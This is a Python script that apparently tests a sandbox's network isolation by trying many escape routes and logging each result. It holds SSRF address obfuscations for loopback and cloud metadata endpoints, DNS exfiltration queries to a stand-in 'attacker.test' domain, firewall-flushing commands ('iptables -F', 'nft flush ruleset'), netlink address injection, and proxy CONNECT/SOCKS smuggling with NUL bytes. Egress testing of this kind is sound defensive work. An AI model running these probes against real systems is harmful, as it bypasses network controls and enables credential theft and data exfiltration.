"""Tries everything that could reach something, and says what became of each try. It never judges: whether anything
arrived is for the other end to say."""

import json, os, socket, struct, subprocess, sys

OWN = os.environ["OWN"]
PORT, NEAR = int(os.environ["PORT"]), int(os.environ["NEAR"])
SECONDS = 2


def tcp(host, port, family=0):
    def go():
        last = OSError("no address")
        for found in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
            with socket.socket(*found[:3]) as it:
                it.settimeout(SECONDS)
                try:
                    it.connect(found[4])
                    it.sendall(b"GET /nowhere HTTP/1.1\r\nHost: a\r\n\r\n")
                    # A captured connection is taken and then reset: only an answer is a success.
                    if answer := it.recv(100):
                        return "reached: " + repr(answer)
                    last = OSError("closed")
                except OSError as error:
                    last = error
        raise last

    return go


def udp(host, port, payload=b"udp from inside"):
    def go():
        family, kind, proto, _, address = socket.getaddrinfo(host, port, 0, socket.SOCK_DGRAM)[0]
        with socket.socket(family, kind, proto) as it:
            it.settimeout(0.2)
            it.connect(address)
            it.send(payload)
            return "reached: " + repr(it.recv(100))

    return go


def dns(name, kind=1, server=None, over=socket.SOCK_DGRAM):
    """Asks `server`, or the one that is configured."""

    def go():
        to = server or [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
        labels = b"".join(bytes([len(l)]) + l for l in (p.encode("latin1") for p in name.split(".")))
        question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
        with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, over) as it:
            it.settimeout(SECONDS if server is None else 0.3)
            it.connect((to, 53))
            if over == socket.SOCK_STREAM:
                question = struct.pack(">H", len(question)) + question
            it.send(question)
            answer = it.recv(600)
        answer = answer[2:] if over == socket.SOCK_STREAM else answer
        code, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
        if server or (code == 0 and count > 0):
            return f"reached: code {code}, {count} answers"
        raise OSError(f"code {code}, {count} answers")

    return go


def unix(name):
    def go():
        with socket.socket(socket.AF_UNIX) as it:
            it.settimeout(SECONDS)
            it.connect(name)
            return "reached"

    return go


def opened(family, kind, proto=0):
    def go():
        with socket.socket(family, kind, proto):
            return "reached: the socket was opened"

    return go


def vsock(cid):
    def go():
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as it:
            it.settimeout(SECONDS)
            it.connect((cid, PORT))
            return "reached"

    return go


def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as it:
        it.settimeout(0.2)
        it.sendto(b"\x08\0\0\0\0\0\0\0" + b"icmp", ("198.51.100.1", 0))
        it.recv(100)
        return "reached"


def bound_elsewhere():
    """From an address of the host, or marked for another route."""
    with socket.socket() as it:
        it.settimeout(SECONDS)
        it.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
        it.bind((OWN, 0))
        it.connect(("198.51.100.1", 80))
        return "reached"


def changed_route():
    """Takes the filter away, or adds an interface; only text tools are tried."""
    for line in ("ip link add x type dummy", "nft flush ruleset", "iptables -F"):
        if subprocess.run(line, shell=True, capture_output=True).returncode == 0:
            return "reached: " + line
    raise OSError("nothing could be changed")


def netlink_route():
    """RTM_NEWADDR without the tool."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as it:
        it.bind((0, 0))
        body = struct.pack("BBBBI", 2, 24, 0, 0, 1) + struct.pack("HH", 8, 2) + bytes([10, 9, 8, 7])
        it.send(struct.pack("IHHII", 16 + len(body), 20, 0x5 | 0x600, 1, 0) + body)
        code = struct.unpack("i", it.recv(100)[16:20])[0]
        if code == 0:
            return "reached: an address was added"
        raise OSError(os.strerror(-code))


def socks(request):
    """A request to the explicit proxy that must not be granted."""

    def go():
        with socket.create_connection(("proxy.bailiwick", 1080), SECONDS) as it:
            it.sendall(b"\5\1\0")
            if it.recv(2) != b"\5\0":
                raise OSError("the greeting was refused")
            it.sendall(request)
            answer = it.recv(100)
            if answer[1:2] == b"\0":
                return "reached: granted"
            raise OSError(f"code {answer[1:2].hex() or 'none'}")

    return go


def named(name, port):
    return b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", port)


def proxied(line):
    def go():
        with socket.create_connection(("proxy.bailiwick", 3128), SECONDS) as it:
            target = line.split(" ")[1].removeprefix("http://").removesuffix("/nowhere")
            it.sendall(f"{line}\r\nHost: {target}\r\n\r\n".encode("latin1"))
            answer = it.recv(2000).decode("latin1")
            if answer.split(" ")[1:2] == ["200"]:
                return "reached: " + answer
            raise OSError(answer.replace("\r\n", " "))

    return go


LOOPBACK = ["127.0.0.1", "127.1", "127.9.9.9", "0x7f000001", "2130706433", "0177.0.0.1", "0", "0.0.0.0", "::1", "::"]
LOOPBACK += ["::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1", "localhost", "LOCALHOST", "localhost."]
METADATA = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "::ffff:a9fe:a9fe"]
METADATA += ["64:ff9b::a9fe:a9fe", "fd00:ec2::254", "168.63.129.16", "100.100.100.200", "192.0.0.192"]
METADATA += ["metadata.google.internal", "metadata", "instance-data"]
OUTSIDE = ["198.51.100.1", "203.0.113.9", "198.18.77.7", "198.19.255.254", "10.0.0.1", "192.168.0.1", "172.17.0.1"]
OUTSIDE += ["224.0.0.1", "255.255.255.255", "2001:db8::1", "fe80::1%lo", "ff02::1", "2002:7f00:1::", "3221225985"]
NAMES = ["other.example.test", "sub.api.example.test", "example.test", "test", "xapi.example.test", "api.example.test.evil.test"]
NAMES += ["api.example.tes", "\u0430pi.example.test", "api.example.test\u3002evil", "api%2eexample.test", "api.example.test,other"]
NAMES += ["user@other.example.test", "api.example.test#.other", "dns.google", "_dns.resolver.arpa", "gateway", "host.docker.internal"]

TRIES = {}
for host in LOOPBACK + [OWN]:
    TRIES["tcp " + host] = tcp(host, NEAR)
    TRIES["udp " + host] = udp(host, NEAR)
for host in METADATA + OUTSIDE:
    TRIES["tcp " + host] = tcp(host, 80)
for host in NAMES:
    TRIES["name " + host] = tcp(host, PORT)
for host in ("198.51.100.1", "198.18.77.7", "api.example.test", "2001:db8::1"):
    TRIES["udp " + host] = udp(host, PORT)
for server in ("198.51.100.53", "127.0.0.53", "203.0.113.53", "2001:db8::53"):
    TRIES["dns at " + server] = dns("api.example.test", server=server)
    TRIES["dns over tcp at " + server] = dns("api.example.test", server=server, over=socket.SOCK_STREAM)
for name, kind in (
    ("c2VjcmV0.attacker.test", 1), ("c2VjcmV0.attacker.test", 16), ("c2VjcmV0.api.example.test", 1),
    ("c2VjcmV0.api.example.test", 10), ("c2VjcmV0.api.example.test", 255), ("api.example.test", 28),
    ("api.example.test", 65), ("api.example.test", 16), ("api.example.test", 252), ("1.0.0.127.in-addr.arpa", 12),
    ("x" * 63 + "." + "y" * 63 + ".attacker.test", 1),
):  # fmt: skip
    TRIES[f"question {name} {kind}"] = dns(name, kind)
    TRIES[f"question over tcp {name} {kind}"] = dns(name, kind, over=socket.SOCK_STREAM)
TRIES |= {
    "unix abstract": unix("\0" + os.environ["ABSTRACT"]),
    "vsock to the host": vsock(2),
    "vsock to itself": vsock(1),
    "icmp": ping,
    "raw icmp": opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "raw ip": opened(socket.AF_INET, socket.SOCK_RAW, 255),
    "raw ipv6": opened(socket.AF_INET6, socket.SOCK_RAW, 58),
    "packet": opened(17, socket.SOCK_RAW, 3),
    "sctp": opened(socket.AF_INET, socket.SOCK_STREAM, 132),
    "another address": bound_elsewhere,
    "another filter": changed_route,
    "another address by netlink": netlink_route,
    "the port of another service": tcp("api.example.test", NEAR),
    "the proxy's name, another port": tcp("proxy.bailiwick", NEAR),
}
for host in ("127.0.0.1", "[::1]", "169.254.169.254", "2130706433", "[::ffff:127.0.0.1]", "other.example.test", "localhost", "0"):
    TRIES["connect " + host] = proxied(f"CONNECT {host}:{PORT} HTTP/1.1")
    TRIES["absolute " + host] = proxied(f"GET http://{host}:{NEAR}/nowhere HTTP/1.1")
TRIES |= {
    "connect to another port": proxied(f"CONNECT api.example.test:{NEAR} HTTP/1.1"),
    "connect with a user": proxied(f"CONNECT api.example.test@other.example.test:{PORT} HTTP/1.1"),
    "connect with nul": proxied(f"CONNECT other.example.test\0.api.example.test:{PORT} HTTP/1.1"),
    "absolute https": proxied(f"GET https://other.example.test:{PORT}/nowhere HTTP/1.1"),
    "absolute plain to a TLS place": proxied(f"GET http://api.example.test:{PORT}/nowhere HTTP/1.1"),
    "origin form": proxied("GET /nowhere HTTP/1.1"),
    "socks to an address": socks(b"\5\1\0\1" + bytes([127, 0, 0, 1]) + struct.pack(">H", PORT)),
    "socks to an IPv6 address": socks(b"\5\1\0\4" + bytes(15) + b"\1" + struct.pack(">H", PORT)),
    "socks to another name": socks(named(b"other.example.test", PORT)),
    "socks to a spelled address": socks(named(b"127.0.0.1", PORT)),
    "socks with nul": socks(named(b"other.example.test\0.api.example.test", PORT)),
    "socks with nul behind": socks(named(b"api.example.test\0.evil.test", PORT)),
    "socks bind": socks(b"\5\2\0\1" + bytes(4) + struct.pack(">H", PORT)),
    "socks udp": socks(b"\5\3\0\1" + bytes(4) + struct.pack(">H", PORT)),
}

for name in sys.argv[1:] or TRIES:
    attempt = TRIES[name]
    try:
        said = attempt()
    except Exception as error:
        said = f"no: {type(error).__name__}: {error}"
    print(json.dumps([name, said]), flush=True)
